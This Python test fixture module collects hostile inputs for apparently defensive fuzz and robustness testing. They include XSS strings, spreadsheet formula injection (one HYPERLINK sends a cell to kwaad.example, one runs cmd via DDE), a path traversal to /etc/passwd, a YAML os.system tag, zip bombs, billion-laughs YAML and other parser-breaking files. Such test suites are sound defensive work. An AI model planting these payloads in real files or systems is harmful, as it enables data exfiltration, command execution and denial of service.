"""What somebody with bad intent, or a broken program, sends instead of a word: for every door, one list."""

import base64
import io
import json
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

LARGE = 2_000_000
SEEDS = Path(__file__).parents[1] / "seeds"

WORDS = {
    "html": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "entity": "&lt;b&gt;&#x3c;b&#x3e;",
    "address of a script": "javascript:alert(1)",
    "formula": '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
    "formula with a mark": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link in markdown": "[klik](https://kwaad.example)",
    "picture in markdown": "![x](https://kwaad.example/x.png)",
    "code in markdown": "`x` **vet** $x^2$ :red[x] :material/home:",
    "template": "{postcode} {0.__class__} %s ${x} {{x}}",
    "right to left": "abc\u202egnp.exe\u202c\u2066x\u2069",
    "control characters": "a\x00b\x07c\x1b[31md\x7f\x85",
    "no width": "a\u200bb\u2060c\ufeffd",
    "half a character": "\ud83d",
    "many marks": "a" + "\u0301" * 5000,
    "other digits": "\u0661\u0662\u0663\u0664 \u00b2 \u2460",
    "way to a file": "../../../etc/passwd",
    "long": "ha " * 20_000,
    "large": "x" * LARGE,
    "number of many digits": "9" * 5000,
    "endless": "1e999",
    "nothing": "",
    "only spaces": " \t\u00a0\u3000\n",
}
"""As text, for whatever a person can type, or an author can write."""

CALENDAR = (
    "BEGIN:VCALENDAR|VERSION:2.0|BEGIN:VEVENT|SUMMARY:vrij|DTSTART:00010101|DTEND:99991231|RRULE:FREQ=SECONDLY|"
    "END:VEVENT|END:VCALENDAR|"
)
TABLE = "Naam;Plaats;Vorm\n" + "\n".join(f"{word};{word};{word}" for word in WORDS.values() if len(word) < LARGE)

VALUES = (
    None, True, False, 0, -1, 2**63, 10**400, 1.5, float("nan"), float("inf"), [], {}, [[]], [None],
    {"x": None}, {1: 2}, ["x"] * 5000, {str(number): number for number in range(5000)}, b"x", ("x",), {"x"}, object,
    *WORDS.values(),
)  # fmt: skip
"""Of every type, for whatever a program hands over."""


def deep(opening: str, closing: str = "", layers: int = 100_000) -> bytes:
    """Something nested in itself so often that reading it layer by layer would break."""
    return (opening * layers + closing * layers).encode()


def zipped(name: str, data: bytes) -> bytes:
    """A zip with one file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, data)
    return made.getvalue()


def deflated(data: bytes) -> str:
    """Pack any data as saved answers are packed."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return "a" + base64.urlsafe_b64encode(squeezer.compress(data) + squeezer.flush()).decode().rstrip("=")


FILES: dict[str, bytes | Callable[[], bytes]] = {
    **{f"seed: {path.relative_to(SEEDS).as_posix()}": path.read_bytes for path in sorted(SEEDS.glob("*/*"))},
    **{f"word: {name}": text.encode("utf-8", "surrogatepass") for name, text in WORDS.items()},
    "brackets": deep("[", "]"),
    "braces": deep('{"a":', "}"),
    "braces of yaml": deep("{a: "),
    "layers of yaml": b"".join(b" " * layer + b"a:\n" for layer in range(1000)),
    "dashes": deep("- "),
    "laughs": b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n" * 500,
    "tag that runs": b"!!python/object/apply:os.system ['true']",
    "merge": b"<<: {a: b}\n<<: *x",
    "amount of fourteen digits": b"22222222222222",
    "quotes": b'"' * 100_001,
    "a quote on each line": b"Naam;Plaats;Vorm\n" + b'"x;y;z\n' * 20_000,
    "quotes without end": b'Naam;Plaats;Vorm\n"' + b'""\n' * 30_000,
    "days of every kind": b"Nacht;Vrij;Bijgewerkt\n" + b"12/18/2026;ja;9999-12-31\n1-1-1;\xc2\xb2;46359\n" * 2000,
    "lines": b"\n" * LARGE,
    "carriage returns": b"\r" * 100_000,
    "separators": b";" * 100_000 + b"\n",
    "zeros": b"\0" * LARGE,
    "mark of UTF-16 and half a character": b"\xff\xfea",
    "mark of UTF-32": b"\xff\xfe\0\0a\0\0\0",
    "bytes that are no text": bytes(range(256)) * 100,
    "zip of nothing": zipped("x", b""),
    "zip that grows": lambda: zipped("xl/workbook.xml", b" " * 50_000_000),
    "zip with entities": zipped("xl/workbook.xml", b'<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>'),
    "half a zip": zipped("xl/workbook.xml", b"<x/>" * 1000)[:200],
    "old Excel": b"\xd0\xcf\x11\xe0" * 100,
    "a table of such words": TABLE.encode("utf-8", "replace"),
    "calendar without an end": b"BEGIN:VCALENDAR\r\n" + b"BEGIN:VEVENT\r\n" * 2000,
    "calendar that repeats": CALENDAR.replace("|", "\r\n").encode(),
    "saved that grows": lambda: deflated(b" " * 50_000_000).encode(),
    "saved of other types": json.dumps(
        {"adempauze": True, "on": [], "answers": [], "kept": {"stays": [[["x"]]]}}
    ).encode(),
    "saved with a day far away": b'{"adempauze":1,"on":"9999-12-31"}',
    "saved twice": b'{"adempauze":1,"adempauze":1,"on":"2026-11-22","answers":{"nights":1e400}}',
    "number of many digits in JSON": b'{"adempauze":1,"on":"2026-11-22","answers":{"nights":' + b"9" * 5000 + b"}}",
}
"""As bytes, for whatever reads a file; large ones are made when thrown. Found by the fuzzer, or thought up."""


@cache
def hostile_file(name: str) -> bytes:
    """One of these files."""
    content = FILES[name]
    return content if isinstance(content, bytes) else content()
